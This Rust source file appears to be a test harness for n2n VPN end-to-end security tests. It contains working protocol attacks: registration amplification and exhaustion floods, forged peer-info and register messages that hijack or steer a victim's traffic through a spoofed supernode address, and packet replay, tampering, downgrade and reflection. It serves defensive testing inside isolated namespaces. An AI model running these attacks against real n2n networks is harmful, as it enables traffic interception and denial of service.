//! A hostile host for the end-to-end tests (tests/e2e/hostile.rs): it speaks n2n's wire
//! format to attack a supernode or an edge inside the test's namespaces. Never aimed anywhere
//! else: every target is an address the test passes in.
//!
//!   n2n-hostile amplify  sn=IP:PORT community=C macs=N sockets=P repeat=R ready=FILE listen_ms=MS
//!   n2n-hostile hijack   edge=IP:PORT sn_like=no community=C victim=MAC peer=MAC count=N
//!   n2n-hostile steer    edge=IP:PORT spoof=IP:PORT me=IP community=C victim=MAC peer=MAC secs=N
//!   n2n-hostile exhaust  sn=IP:PORT communities=N macs=N
//!   n2n-hostile genuine  edge=IP:PORT community=C key=K victim=MAC out=FILE
//!   n2n-hostile replay   edge=IP:PORT community=C key=K victim=MAC in=FILE count=N
//!   n2n-hostile flood    sn=IP:PORT community=C count=N
//!
//! Each prints one line of counts (`key=value …`) when done.

use std::collections::HashMap;
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use n2n_crypto::transform::{AeadTransform, PREFIX, RootKey, SUFFIX, id};
use n2n_crypto::{
    HeaderKey, PacketContext, RandomSource, StampGenerator, Transform, Xorshift128Plus,
};
use n2n_proto::msg::{PacketHeader, PeerInfo, Register, RegisterAck, RegisterSuper, compression};
use n2n_proto::{
    Auth, Community, Datagram, Desc, Flags, IpSubnet, Mac, Message, Sock, VersionString,
    auth_scheme, cookie,
};

/// The MAC of hostile identity `i`.
fn fake_mac(i: u32) -> Mac {
    let [a, b, c, d] = i.to_be_bytes();
    Mac([2, 0xee, a, b, c, d])
}

fn unix_micros() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_micros() as u64)
        .unwrap_or(0)
}

struct Args(HashMap<String, String>);

impl Args {
    fn get(&self, k: &str) -> &str {
        self.0
            .get(k)
            .unwrap_or_else(|| panic!("missing {k}=…"))
            .as_str()
    }
    fn num(&self, k: &str) -> u32 {
        self.get(k)
            .parse()
            .unwrap_or_else(|_| panic!("{k}: a number"))
    }
    fn addr(&self, k: &str) -> SocketAddr {
        self.get(k)
            .parse()
            .unwrap_or_else(|_| panic!("{k}: IP:PORT"))
    }
    fn mac(&self, k: &str) -> Mac {
        self.get(k).parse().unwrap_or_else(|_| panic!("{k}: a MAC"))
    }
    fn community(&self) -> Community {
        Community::new(self.get("community")).expect("community name")
    }
}

fn socket() -> UdpSocket {
    UdpSocket::bind("0.0.0.0:0").expect("bind")
}

fn register_super(c: Community, mac: Mac, token: u32, dev: u32) -> Vec<u8> {
    let mut t = [0u8; 16];
    t[..4].copy_from_slice(&token.to_be_bytes());
    Datagram::new(
        c,
        Flags::EMPTY,
        Message::RegisterSuper(RegisterSuper {
            cookie: token,
            edge_mac: mac,
            sock: None,
            dev_addr: IpSubnet::new((0x0a63_0000 | (dev & 0xffff)).into(), 24),
            desc: Desc::from_text("hostile"),
            auth: Auth::new(auth_scheme::SIMPLE_ID, &t).expect("16 bytes"),
            key_time: 0,
        }),
    )
    .to_vec()
}

/// Registers `macs` made-up MACs from `sockets` sockets (round robin, so the first ones each
/// have their own socket), `repeat` times, then counts the PACKETs that reach any of them.
fn amplify(a: &Args) {
    let (sn, c) = (a.addr("sn"), a.community());
    let socks: Vec<UdpSocket> = (0..a.num("sockets")).map(|_| socket()).collect();
    for _ in 0..a.num("repeat") {
        for i in 0..a.num("macs") {
            let s = &socks[i as usize % socks.len()];
            s.send_to(&register_super(c, fake_mac(i), i, i), sn)
                .expect("send");
            if i % 64 == 63 {
                std::thread::sleep(Duration::from_millis(2));
            }
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    for s in &socks {
        s.set_nonblocking(true).expect("nonblocking");
        let mut b = [0u8; 2048];
        while s.recv_from(&mut b).is_ok() {} // the ACKs
    }
    std::fs::write(a.get("ready"), b"ready").expect("ready file");
    let end = Instant::now() + Duration::from_millis(a.num("listen_ms").into());
    let (mut copies, mut bytes) = (0u64, 0u64);
    let mut b = [0u8; 4096];
    while Instant::now() < end {
        let mut idle = true;
        for s in &socks {
            while let Ok((n, _)) = s.recv_from(&mut b) {
                idle = false;
                if let Ok((d, _)) = Datagram::decode(&b[..n])
                    && matches!(d.msg, Message::Packet(_))
                {
                    copies += 1;
                    bytes += n as u64;
                }
            }
        }
        if idle {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    println!("copies={copies} bytes={bytes} sockets={}", socks.len());
}

/// Forged REGISTER_ACKs, PEER_INFOs and REGISTERs that claim `peer` is at our address.
fn hijack(a: &Args) {
    let (edge, c, victim, peer) = (
        a.addr("edge"),
        a.community(),
        a.mac("victim"),
        a.mac("peer"),
    );
    let s = socket();
    let me: SocketAddr = s.local_addr().expect("addr");
    let mut rng = Xorshift128Plus::seeded(u64::from(me.port()));
    let mut sent = 0u64;
    for i in 0..a.num("count") {
        let ck = [cookie::REGULAR, cookie::MCAST, rng.next_u64() as u32][i as usize % 3];
        let msgs = [
            Message::RegisterAck(RegisterAck {
                cookie: ck,
                dst_mac: victim,
                src_mac: peer,
                sock: None,
            }),
            Message::PeerInfo(PeerInfo {
                aflags: 0,
                src_mac: victim,
                mac: peer,
                sock: Sock::from(SocketAddr::from(([198, 18, 3, 2], me.port()))),
                preferred_sock: None,
                load: 0,
                uptime: 0,
                version: VersionString::from_text("hostile"),
            }),
            Message::Register(Register {
                cookie: ck,
                src_mac: peer,
                dst_mac: victim,
                sock: None,
                dev_addr: IpSubnet::new([10, 99, 0, 2].into(), 24),
                desc: Desc::from_text("hostile"),
            }),
        ];
        for m in msgs {
            let flags = if matches!(m, Message::PeerInfo(_)) {
                Flags::FROM_SUPERNODE
            } else {
                Flags::EMPTY
            };
            s.send_to(&Datagram::new(c, flags, m).to_vec(), edge)
                .expect("send");
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    println!("sent={sent}");
}

/// The supernode's address forged (`spoof`, which the test gave this host): PEER_INFOs that
/// say `peer` is at our own socket, and REGISTER_ACKs as `peer` for every REGISTER that comes
/// to it, for `secs` seconds.
fn steer(a: &Args) {
    let (edge, c, victim, peer) = (
        a.addr("edge"),
        a.community(),
        a.mac("victim"),
        a.mac("peer"),
    );
    let forged = UdpSocket::bind(a.addr("spoof")).expect("bind the forged address");
    let trap = socket();
    trap.set_read_timeout(Some(Duration::from_millis(20)))
        .expect("timeout");
    let me: std::net::IpAddr = a.get("me").parse().expect("me: an IP address");
    let at = SocketAddr::from((me, trap.local_addr().expect("addr").port()));
    let info = Datagram::new(
        c,
        Flags::FROM_SUPERNODE,
        Message::PeerInfo(PeerInfo {
            aflags: 0,
            src_mac: victim,
            mac: peer,
            sock: Sock::from(at),
            preferred_sock: None,
            load: 0,
            uptime: 0,
            version: VersionString::from_text("hostile"),
        }),
    )
    .to_vec();
    let (mut infos, mut registers, mut acks) = (0u64, 0u64, 0u64);
    let end = Instant::now() + Duration::from_secs(a.num("secs").into());
    let mut b = [0u8; 2048];
    while Instant::now() < end {
        forged.send_to(&info, edge).expect("send");
        infos += 1;
        while let Ok((n, from)) = trap.recv_from(&mut b) {
            let Ok((d, _)) = Datagram::decode(&b[..n]) else {
                continue;
            };
            if let Message::Register(r) = d.msg {
                registers += 1;
                let ack = Message::RegisterAck(RegisterAck {
                    cookie: r.cookie,
                    dst_mac: r.src_mac,
                    src_mac: peer,
                    sock: None,
                });
                trap.send_to(&Datagram::new(c, Flags::EMPTY, ack).to_vec(), from)
                    .expect("send");
                acks += 1;
            }
        }
    }
    println!("infos={infos} registers={registers} acks={acks} at={at}");
}

/// Registrations of `macs` made-up MACs spread over `communities` made-up communities.
fn exhaust(a: &Args) {
    let sn = a.addr("sn");
    let s = socket();
    let n = a.num("communities");
    for i in 0..a.num("macs") {
        let c = Community::new(&format!("fake{}", i % n)).expect("name");
        s.send_to(&register_super(c, fake_mac(i), i, i), sn)
            .expect("send");
        if i % 256 == 255 {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    println!("sent={}", a.num("macs"));
}

/// The `-A6 -H` sender of identity 1: what an edge of the community with `key` would send.
struct Sender {
    c: Community,
    mac: Mac,
    victim: Mac,
    header: HeaderKey,
    stamps: StampGenerator,
    aead: Transform,
    rng: Xorshift128Plus,
}

impl Sender {
    fn new(a: &Args, mac: Mac) -> Sender {
        let c = a.community();
        let root = RootKey::derive(a.get("key").as_bytes(), &c).expect("key");
        let mut rng = Xorshift128Plus::seeded(unix_micros());
        let aead = AeadTransform::new(root, mac, unix_micros() / 1_000_000, &mut rng);
        Sender {
            c,
            mac,
            victim: a.mac("victim"),
            header: HeaderKey::for_community(&c),
            stamps: StampGenerator::default(),
            aead: Transform::Aead(Box::new(aead)),
            rng,
        }
    }

    /// A PACKET carrying a 60-byte frame from us to the victim, sealed with `transform`
    /// (`None`: `-A1`, the frame in the clear).
    fn packet(&mut self, aead: bool) -> Vec<u8> {
        let mut frame = [0u8; 60];
        frame[..6].copy_from_slice(&self.victim.0);
        frame[6..12].copy_from_slice(&self.mac.0);
        frame[12..14].copy_from_slice(&[0x88, 0xb5]);
        frame[14..32].copy_from_slice(b"n2n-hostile frame!");
        let tid = if aead { id::AEAD } else { id::NULL };
        let h = PacketHeader {
            src_mac: self.mac,
            dst_mac: self.victim,
            sock: None,
            compression: compression::NONE,
            transform: tid,
        };
        let mut d = Datagram::new(self.c, Flags::EMPTY, Message::Packet(h)).to_vec();
        let hl = d.len();
        let payload = if aead {
            let ctx = PacketContext {
                community: &self.c,
                src_mac: self.mac,
                dst_mac: self.victim,
                compression: compression::NONE,
                transform: tid,
            };
            let mut buf = vec![0u8; PREFIX + frame.len() + SUFFIX];
            buf[PREFIX..PREFIX + frame.len()].copy_from_slice(&frame);
            let r = self
                .aead
                .encrypt(&mut buf, frame.len(), &ctx, &mut self.rng)
                .expect("seal");
            buf[r].to_vec()
        } else {
            frame.to_vec()
        };
        d.extend_from_slice(&payload);
        self.stamp(&mut d, hl);
        d
    }

    /// Encrypts the header of a plain datagram with a fresh time stamp.
    fn stamp(&mut self, d: &mut [u8], hl: usize) {
        let stamp = self.stamps.next(unix_micros());
        let random = self.rng.next_u64() as u32;
        self.header.encrypt(d, hl, stamp, random);
    }
}

const PACKET_HL: usize = 38;

/// One genuine `-A6 -H` PACKET to the victim (it must be delivered), saved for `replay`.
fn genuine(a: &Args) {
    let mut tx = Sender::new(a, fake_mac(1));
    let d = tx.packet(true);
    socket().send_to(&d, a.addr("edge")).expect("send");
    std::fs::write(a.get("out"), &d).expect("save");
    println!("sent=1 len={}", d.len());
}

/// The saved genuine PACKET replayed, tampered with, re-stamped, downgraded to `-A1` and
/// reflected with the victim's own MAC, `count` datagrams in all, paced.
fn replay(a: &Args) {
    let edge = a.addr("edge");
    let original = std::fs::read(a.get("in")).expect("saved datagram");
    let mut tx = Sender::new(a, fake_mac(1));
    let mut own = Sender::new(a, a.mac("victim"));
    let s = socket();
    let mut kinds = [0u64; 5];
    for i in 0..a.num("count") {
        let k = i as usize % kinds.len();
        let d = match k {
            0 => original.clone(),
            1 => {
                let mut d = original.clone();
                let at = PACKET_HL + (i as usize / 5) % (d.len() - PACKET_HL);
                d[at] ^= 1 << (i % 8);
                d
            }
            2 => {
                // The same sealed payload under a fresh header stamp.
                let mut d = original.clone();
                let c = tx.c;
                let stamp = tx.header.decrypt(&mut d, &c);
                assert!(stamp.is_some(), "the saved datagram opens with the key");
                tx.stamp(&mut d, PACKET_HL);
                d
            }
            3 => tx.packet(false),
            _ => own.packet(true),
        };
        kinds[k] += 1;
        s.send_to(&d, edge).expect("send");
        if i % 100 == 99 {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    println!(
        "replayed={} tampered={} restamped={} downgraded={} reflected={}",
        kinds[0], kinds[1], kinds[2], kinds[3], kinds[4]
    );
}

/// `count` hostile datagrams at a supernode: garbage, forged registrations in made-up and
/// real communities, relays from unregistered MACs, broadcasts, look-ups. Paced.
fn flood(a: &Args) {
    let (sn, c) = (a.addr("sn"), a.community());
    let s = socket();
    let mut rng = Xorshift128Plus::seeded(7);
    for i in 0..a.num("count") {
        let r = rng.next_u64() as u32;
        let d = match i % 5 {
            0 => {
                let mut g = vec![0u8; 24 + (r % 1400) as usize];
                for b in g.iter_mut() {
                    *b = rng.next_u64() as u8;
                }
                g
            }
            1 => {
                let name = Community::new(&format!("flood{}", r % 5000)).expect("name");
                register_super(name, fake_mac(r), r, r)
            }
            2 => register_super(c, fake_mac(r), r, r),
            3 => {
                let h = PacketHeader {
                    src_mac: fake_mac(r),
                    dst_mac: if r.is_multiple_of(2) {
                        Mac::BROADCAST
                    } else {
                        fake_mac(r ^ 1)
                    },
                    sock: None,
                    compression: compression::NONE,
                    transform: id::NULL,
                };
                let mut d = Datagram::new(c, Flags::EMPTY, Message::Packet(h)).to_vec();
                d.extend_from_slice(&[0u8; 1000]);
                d
            }
            _ => {
                let mut d = register_super(c, fake_mac(r), r, r);
                d.truncate(24 + (r % 40) as usize);
                d
            }
        };
        s.send_to(&d, sn).expect("send");
        if i % 100 == 99 {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    println!("sent={}", a.num("count"));
}

fn main() {
    let mut it = std::env::args().skip(1);
    let mode = it.next().unwrap_or_default();
    let args = Args(
        it.filter_map(|kv| kv.split_once('=').map(|(k, v)| (k.into(), v.into())))
            .collect(),
    );
    match mode.as_str() {
        "amplify" => amplify(&args),
        "hijack" => hijack(&args),
        "steer" => steer(&args),
        "exhaust" => exhaust(&args),
        "genuine" => genuine(&args),
        "replay" => replay(&args),
        "flood" => flood(&args),
        _ => {
            eprintln!("usage: n2n-hostile amplify|hijack|exhaust|genuine|replay|flood key=value…");
            std::process::exit(2);
        }
    }
}
